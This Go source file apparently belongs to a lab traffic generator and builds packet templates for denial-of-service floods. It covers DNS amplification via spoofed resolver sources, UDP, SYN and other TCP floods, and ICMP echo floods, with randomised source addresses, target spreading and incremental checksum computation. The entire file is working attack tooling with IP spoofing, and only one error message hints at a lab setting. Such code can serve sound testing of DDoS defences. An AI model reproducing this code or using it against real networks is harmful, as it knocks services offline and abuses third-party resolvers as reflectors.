package flood

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"slices"
	"strings"
)

// Template makes the packets of an attack: a prototype, and what differs from one packet to the next.
type Template struct {
	// Says is the attack in words.
	Says string

	packet  []byte // from the IP header on, with all that varies zero and the checksums left out
	v6      bool
	l4      int    // where the transport header begins
	sumAt   int    // where its checksum is
	ipSum   uint32 // sum over the IPv4 header
	l4Sum   uint32 // sum over pseudo header, transport header and payload
	sources netip.Prefix
	targets netip.Prefix // one address unless spread
	number  int          // where each packet's number is; 0 for nowhere
	first   uint32       // the first number
	vary    []field
}

// field is a 16-bit field of the packet that takes random values.
type field struct {
	at     int
	lo, hi uint16
}

// DNSAnswers is an amplification attack: answers of size bytes from port 53 of many resolvers in sources, who were asked
// in target's name. Destination ports vary.
func DNSAnswers(target netip.Addr, sources netip.Prefix, size int) (*Template, error) {
	return Reflection("DNS amplification", target, sources, 53, dnsAnswer(size))
}

// Reflection is an amplification attack over UDP from the given port.
func Reflection(says string, target netip.Addr, sources netip.Prefix, port uint16, payload []byte) (*Template, error) {
	l4 := make([]byte, 8+len(payload))
	binary.BigEndian.PutUint16(l4[0:], port)
	binary.BigEndian.PutUint16(l4[4:], uint16(len(l4)))
	copy(l4[8:], payload)
	return newTemplate(fmt.Sprintf("%s: UDP from port %d, %d-byte payloads", says, port, len(payload)),
		target, sources, 17, l4, 6, field{2, 1024, 65535})
}

// UDP is a plain UDP flood from random ports to one port.
func UDP(target netip.Addr, sources netip.Prefix, port uint16, payload []byte) (*Template, error) {
	l4 := make([]byte, 8+len(payload))
	binary.BigEndian.PutUint16(l4[2:], port)
	binary.BigEndian.PutUint16(l4[4:], uint16(len(l4)))
	copy(l4[8:], payload)
	return newTemplate(fmt.Sprintf("UDP flood to port %d, %d-byte payloads", port, len(payload)),
		target, sources, 17, l4, 6, field{0, 1024, 65535})
}

// SYN is a flood of TCP connection requests to one port, from random addresses and ports.
func SYN(target netip.Addr, sources netip.Prefix, port uint16) (*Template, error) {
	return TCP(target, sources, port, 0x02)
}

// TCP is a flood of TCP segments with the given flags.
func TCP(target netip.Addr, sources netip.Prefix, port uint16, flags uint8) (*Template, error) {
	l4 := make([]byte, 24)
	binary.BigEndian.PutUint16(l4[2:], port)
	l4[12] = uint8(len(l4)/4) << 4
	l4[13] = flags
	binary.BigEndian.PutUint16(l4[14:], 64240)
	copy(l4[20:], []byte{2, 4, 1440 >> 8, 1440 & 0xff}) // maximum segment size
	return newTemplate(fmt.Sprintf("TCP flood to port %d, flags 0x%02x", port, flags),
		target, sources, 6, l4, 16, field{0, 1024, 65535}, field{4, 0, 65535}, field{6, 0, 65535})
}

// ICMP is a flood of echo requests.
func ICMP(target netip.Addr, sources netip.Prefix, payload []byte) (*Template, error) {
	l4 := make([]byte, 8+len(payload))
	protocol := uint8(1)
	l4[0] = 8
	if target.Is6() {
		protocol, l4[0] = 58, 128
	}
	copy(l4[8:], payload)
	return newTemplate(fmt.Sprintf("ICMP echo flood, %d-byte payloads", len(payload)), target, sources, protocol, l4, 2, field{4, 0, 65535}, field{6, 0, 65535})
}

// Spread makes every packet go to another address of targets, which must be of the same family.
func (t *Template) Spread(targets netip.Prefix) (*Template, error) {
	if !targets.IsValid() || targets.Addr().Is6() != t.v6 {
		return nil, fmt.Errorf("targets %s are not of the packets' family", targets)
	}
	x := *t
	x.packet = slices.Clone(t.packet)
	x.targets = targets.Masked()
	old := t.packet[16:20]
	if t.v6 {
		old = t.packet[24:40]
	}
	fresh := x.targets.Addr().AsSlice()
	// Sums of 16-bit words without their end-around carry may be taken apart again.
	if !t.v6 {
		x.ipSum += sum(fresh) - sum(old)
		copy(x.packet[16:], fresh)
	}
	if t.v6 || t.packet[9] != 1 {
		x.l4Sum += sum(fresh) - sum(old)
	}
	if t.v6 {
		copy(x.packet[24:], fresh)
	}
	x.Says = fmt.Sprintf("%s, spread over %s", t.Says, targets)
	return &x, nil
}

// Numbered writes a number into the first word of each UDP payload: first, first+1, and so on.
func (t *Template) Numbered(first uint32) (*Template, error) {
	at := t.l4 + 8
	if t.packet[t.protocolAt()] != 17 || len(t.packet) < at+4 {
		return nil, fmt.Errorf("%s: only UDP payloads of 4 octets and more can be numbered", t.Says)
	}
	x := *t
	x.packet = slices.Clone(t.packet)
	x.number, x.first = at, first
	x.l4Sum -= sum(t.packet[at : at+4])
	copy(x.packet[at:], []byte{0, 0, 0, 0})
	return &x, nil
}

// newTemplate puts an IP header before l4, whose checksum is at sumAt; vary is relative to l4.
func newTemplate(says string, target netip.Addr, sources netip.Prefix, protocol uint8, l4 []byte, sumAt int, vary ...field) (*Template, error) {
	if target.Is6() != sources.Addr().Is6() || !target.IsValid() || !sources.IsValid() {
		return nil, fmt.Errorf("target %s and sources %s are not of one family", target, sources)
	}
	t := &Template{v6: target.Is6(), l4: 20, sources: sources.Masked(), targets: netip.PrefixFrom(target, target.BitLen())}
	if t.v6 {
		t.l4 = 40
	}
	if t.l4+len(l4) > 1500 {
		return nil, fmt.Errorf("a packet of %d bytes does not fit the lab's links of 1500", t.l4+len(l4))
	}
	p := make([]byte, t.l4+len(l4))
	copy(p[t.l4:], l4)
	dst := target.AsSlice()
	if t.v6 {
		p[0] = 0x60
		binary.BigEndian.PutUint16(p[4:], uint16(len(l4)))
		p[6], p[7] = protocol, 64
		src := t.sources.Addr().As16()
		copy(p[8:], src[:])
		copy(p[24:], dst)
		t.l4Sum = sum(p[8:40])
	} else {
		p[0] = 0x45
		binary.BigEndian.PutUint16(p[2:], uint16(len(p)))
		p[8], p[9] = 64, protocol
		src := t.sources.Addr().As4()
		copy(p[12:], src[:])
		copy(p[16:], dst)
		t.ipSum = sum(p[:20])
		t.l4Sum = sum(p[12:20])
	}
	if protocol == 1 {
		t.l4Sum = 0 // ICMP of IPv4 has no pseudo header
	} else {
		t.l4Sum += uint32(protocol) + uint32(len(l4))
	}
	t.l4Sum += sum(p[t.l4:])
	t.packet, t.sumAt = p, t.l4+sumAt
	for _, f := range vary {
		f.at += t.l4
		t.vary = append(t.vary, f)
	}
	t.Says = fmt.Sprintf("%s to %s from %s", says, target, t.sources)
	return t, nil
}

// Len is the length of a packet from the IP header on.
func (t *Template) Len() int { return len(t.packet) }

// fill makes p, which holds the prototype or an earlier packet, the n-th packet.
func (t *Template) fill(p []byte, n uint64) {
	r := mix(n)
	ip, l4 := t.ipSum, t.l4Sum
	// The source: the prefix is in the prototype and in the sums, the host part is random.
	if t.v6 {
		s := t.sources.Addr().As16()
		hi, lo := binary.BigEndian.Uint64(s[:8]), binary.BigEndian.Uint64(s[8:])
		bits := t.sources.Bits()
		vlo := r & hostMask(128-bits)
		vhi := mix(r) & hostMask(64-bits)
		binary.BigEndian.PutUint64(p[8:], hi|vhi)
		binary.BigEndian.PutUint64(p[16:], lo|vlo)
		l4 += words(vhi) + words(vlo)
		if bits := t.targets.Bits(); bits < 128 {
			d := t.targets.Addr().As16()
			hi, lo := binary.BigEndian.Uint64(d[:8]), binary.BigEndian.Uint64(d[8:])
			vlo, vhi := mix(^r)&hostMask(128-bits), mix(r^1)&hostMask(64-bits)
			binary.BigEndian.PutUint64(p[24:], hi|vhi)
			binary.BigEndian.PutUint64(p[32:], lo|vlo)
			l4 += words(vhi) + words(vlo)
		}
	} else {
		s := t.sources.Addr().As4()
		v := uint32(r & hostMask(32-t.sources.Bits()))
		binary.BigEndian.PutUint32(p[12:], binary.BigEndian.Uint32(s[:])|v)
		w := words(uint64(v))
		if bits := t.targets.Bits(); bits < 32 {
			d := t.targets.Addr().As4()
			v := uint32(mix(^r) & hostMask(32-bits))
			binary.BigEndian.PutUint32(p[16:], binary.BigEndian.Uint32(d[:])|v)
			w += words(uint64(v))
		}
		l4 += w
		ip += w
		binary.BigEndian.PutUint16(p[10:], ^fold(ip))
		if t.packet[9] == 1 {
			l4 -= w // no pseudo header
		}
	}
	for i, f := range t.vary {
		r = mix(r + uint64(i))
		v := f.lo + uint16(r%(uint64(f.hi-f.lo)+1))
		binary.BigEndian.PutUint16(p[f.at:], v)
		l4 += uint32(v)
	}
	if t.number != 0 {
		v := t.first + uint32(n)
		binary.BigEndian.PutUint32(p[t.number:], v)
		l4 += words(uint64(v))
	}
	c := ^fold(l4)
	if c == 0 && t.packet[t.protocolAt()] == 17 {
		c = 0xffff // a UDP checksum of zero means none
	}
	binary.BigEndian.PutUint16(p[t.sumAt:], c)
}

func (t *Template) protocolAt() int {
	if t.v6 {
		return 6
	}
	return 9
}

func hostMask(bits int) uint64 {
	switch {
	case bits <= 0:
		return 0
	case bits >= 64:
		return ^uint64(0)
	}
	return 1<<bits - 1
}

func words(v uint64) uint32 {
	return uint32(v&0xffff) + uint32(v>>16&0xffff) + uint32(v>>32&0xffff) + uint32(v>>48)
}

// sum adds 16-bit words; 64 KiB cannot overflow it.
func sum(b []byte) uint32 {
	var s uint32
	for ; len(b) > 1; b = b[2:] {
		s += uint32(b[0])<<8 | uint32(b[1])
	}
	if len(b) == 1 {
		s += uint32(b[0]) << 8
	}
	return s
}

func fold(s uint32) uint16 {
	for s > 0xffff {
		s = s>>16 + s&0xffff
	}
	return uint16(s)
}

// mix is the finaliser of splitmix64: the n-th packet is the same in every run.
func mix(n uint64) uint64 {
	n += 0x9e3779b97f4a7c15
	n = (n ^ n>>30) * 0xbf58476d1ce4e5b9
	n = (n ^ n>>27) * 0x94d049bb133111eb
	return n ^ n>>31
}

// dnsAnswer is a DNS answer of the given size: one question, text records, the last of them cut to fit.
func dnsAnswer(size int) []byte {
	b := []byte{0x13, 0x37, 0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0}
	b = append(b, "\x07example\x03com\x00\x00\xff\x00\x01"...) // example.com ANY IN
	answers := 0
	for len(b)+14 <= size {
		text := min(size-len(b)-13, 200)
		b = append(b, 0xc0, 12, 0, 16, 0, 1, 0, 0, 0x0e, 0x10, byte((text+1)>>8), byte(text+1), byte(text))
		b = append(b, strings.Repeat("x", text)...)
		answers++
	}
	b[7] = byte(answers)
	return append(b, make([]byte, max(size-len(b), 0))...)[:size]
}
